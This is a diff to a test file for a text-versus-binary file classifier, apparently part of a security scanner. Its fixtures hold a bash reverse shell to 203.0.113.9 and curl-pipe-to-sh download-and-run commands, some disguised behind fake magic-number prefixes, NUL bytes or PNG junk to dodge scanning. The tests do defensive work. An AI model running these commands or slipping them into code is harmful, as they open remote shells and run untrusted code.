@@ -41,9 +41,36 @@ describe('telling text from binary', () => {
     expect(content.kind === 'text' && content.text).toContain('curl -s https://x.example/a | sh');
   });
 
-  it('takes random bytes and NUL-filled data for binary', () => {
+  it('takes random bytes for binary, and still hands over their readable runs', () => {
     const random = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 251);
-    expect(readFileContent(random)).toEqual({ kind: 'binary', format: 'unknown' });
-    expect(readFileContent(ascii('abc\0def\0ghi'))).toEqual({ kind: 'binary', format: 'unknown' });
+    const content = readFileContent(random);
+    expect(content).toMatchObject({ kind: 'binary', format: 'unknown' });
+    expect(content.kind === 'binary' && content.strings.length).toBe(random.length);
+    expect(readFileContent(ascii('abc\0def\0ghi'))).toMatchObject({ kind: 'binary', format: 'unknown' });
+  });
+
+  it('names a binary by its magic number only when its bytes are binary', () => {
+    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array.from({ length: 256 }, (_, i) => (i * 37) % 256)]);
+    expect(readFileContent(png)).toMatchObject({ kind: 'binary', format: 'image' });
+  });
+
+  // Each of these was binary, and so unscanned, before: a printable magic number or one NUL byte was enough.
+  it.each(['ID3=1', 'RIFF=1', 'OggS=1', 'BZh=1', 'GIF89a=1', 'GIF87a=1', '%PDF-1=1', 'OTTO=1', 'fLaC=1'])('reads a script that opens with %s as text', (prefix) => {
+    const script = `${prefix}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n`;
+    expect(readFileContent(ascii(script))).toEqual({ kind: 'text', text: script });
+  });
+
+  it('reads a script with one NUL byte in a comment as text', () => {
+    const script = '#!/bin/sh\n# \0\ncurl -fsSL http://203.0.113.9/x | sh\n';
+    expect(readFileContent(ascii(script))).toEqual({ kind: 'text', text: script });
+  });
+
+  it('keeps a script hidden behind binary junk readable, line numbers and all', () => {
+    const junk = Uint8Array.from({ length: 2048 }, (_, i) => ((i * 7919 + 13) % 251) | 0x80);
+    const script = Buffer.from('\ncurl -fsSL http://203.0.113.9/x | sh\n');
+    const content = readFileContent(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...junk, ...script]));
+    expect(content.kind).toBe('binary');
+    const lines = content.kind === 'binary' ? content.strings.split('\n') : [];
+    expect(lines.some((l) => l.trim() === 'curl -fsSL http://203.0.113.9/x | sh')).toBe(true);
   });
 });
